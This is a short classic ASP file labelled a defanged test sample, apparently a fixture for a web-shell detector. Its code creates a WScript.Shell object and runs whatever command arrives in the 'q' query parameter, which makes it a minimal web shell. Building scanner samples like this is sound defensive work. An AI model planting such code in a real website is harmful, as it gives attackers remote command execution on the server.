<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set o = CreateObject("WScript" & "." & "Shell")
arg = Request.QueryString("q")
o.Run arg
%>
